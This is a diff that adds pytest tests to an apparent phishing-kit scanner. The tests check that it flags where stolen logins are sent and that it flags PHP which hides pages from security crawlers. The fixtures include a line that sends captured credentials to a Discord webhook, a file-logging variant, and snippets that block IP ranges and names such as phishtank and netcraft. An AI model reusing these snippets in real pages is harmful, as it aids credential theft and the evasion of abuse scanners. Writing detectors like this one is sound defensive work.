@@ -35,6 +35,33 @@ def test_most_of_a_key_is_left_out():
     }
 
 
+@pytest.mark.parametrize(
+    ("held", "target"),
+    [
+        (
+            CATCH + b"$u = 'https://discord.com/api/webhooks/1234567890/" + b"a" * 60 + b"';",
+            "discord.com/api/webhooks/1234",
+        ),
+        (CATCH.replace(b'mail("catch@b.example.net", "x", $m)',
+                       b"file_put_contents('log.txt', $m, FILE_APPEND)"), "the file log.txt"),
+    ],
+)  # fmt: skip
+def test_other_places_that_a_catch_goes_to(held, target):
+    quotes = [quote for mark, quote in marks(held) if mark == "credential-destination"]
+    assert target in [quote[: len(target)] for quote in quotes]
+
+
+def test_networks_are_turned_away():
+    networks = b", ".join(b"'^%d.%d.*.*'" % (at, at + 1) for at in range(60, 130))
+    held = (
+        b"<?php if (false) { $ips = array(" + networks + b"); foreach ($ips as $one) if ("
+        b"preg_match('/' . $one . '/', $_SERVER['REMOTE_ADDR'])) { header('HTTP/1.0 404 Not "
+        b"Found'); die(); } }"
+    )
+    found = list(find(Content(held, "/srv/www/a/x.php", "php")))
+    assert [(one.mark, one.confidence) for one in found] == [("php-shuts-out-watchers", 0.6)]
+
+
 def test_watchers_are_turned_away():
     held = (
         b"<?php if (false) { $h = gethostbyaddr($_SERVER['REMOTE_ADDR']); foreach "
@@ -60,6 +87,13 @@ def test_watchers_are_turned_away():
         b"<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'googlebot')) exit; $x = "
         b"array('bingbot', 'slurp');",
         b"<?php // @author a@b.example.net\n$x = 1;",
+        CATCH + b"#" * 200_000,  # no page of a kit is as long
+        CATCH.replace(b'"Login : "', b'"a"').replace(b'"Password : "', b'"b"'),
+        CATCH.replace(b"mail(", b"note(").replace(b"send(", b"keep("),
+        # Networks that are shut out by a list of one's own, and a few names of watchers.
+        b"<?php $h = $_SERVER['REMOTE_ADDR']; if (preg_match('/^66.102.*|^64.233.*/', $h)) die();",
+        b"<?php $h = gethostbyaddr($_SERVER['REMOTE_ADDR']); if (strpos($h, 'phishtank')) die();",
+        b"<?php $known = array('phishtank', 'netcraft', 'opendns'); echo count($known);",
     ],
 )
 def test_leaves_alone(held):
